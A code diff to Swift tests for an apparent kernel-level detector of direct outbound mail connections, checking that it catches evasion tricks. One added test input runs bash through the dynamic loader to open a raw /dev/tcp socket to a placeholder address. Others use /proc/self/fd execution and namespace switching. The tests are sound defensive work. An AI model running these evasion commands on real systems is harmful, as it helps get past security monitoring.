@@ -50,8 +50,9 @@ extension KernelSuite {
                 export check folder arguments
                 \(script)
                 """
+            // Not `ip netns exec`, which makes a mount namespace.
             let attack = try Child([
-                "ip", "netns", "exec", network.client, "setpriv", "--reuid", "\(user)", "--regid", "\(user)",
+                "nsenter", "--net=/run/netns/\(network.client)", "setpriv", "--reuid", "\(user)", "--regid", "\(user)",
                 "--clear-groups", "bash", "-c", command,
             ]).end()
             let row = try #require(try file.lines(1).first, "\(attack.errors)")
@@ -106,10 +107,14 @@ extension KernelSuite {
             #expect(judgement.reasons.contains("loader-variables"))
         }
 
+        /// The connector is linked statically, which the loader would hand to the kernel.
         @Test func loaderThatRunsItIsNotIt() throws {
             let judgement = try judgement(
                 trusting: "exe = \"/usr/lib/*\"",
-                "\"$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null | head -1)\" $check $arguments")
+                """
+                loader=$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null | head -1)
+                $loader /bin/bash -c 'exec 3<>/dev/tcp/192.0.2.1/\(Self.port)'
+                """)
             #expect(judgement.verdict == "direct-mx")
             #expect(judgement.reasons.contains("run-by-loader"))
         }
@@ -142,7 +147,8 @@ extension KernelSuite {
                 exec -a $check /proc/self/fd/8 $arguments
                 """)
             #expect(judgement.verdict == "direct-mx")
-            #expect(judgement.reasons.contains("unprivileged-mount"))
+            // Once the namespace has gone, its files are mounted nowhere.
+            #expect(!Set(judgement.reasons).isDisjoint(with: ["unprivileged-mount", "exe-unmounted"]))
         }
 
         /// The pattern covers files of any user.
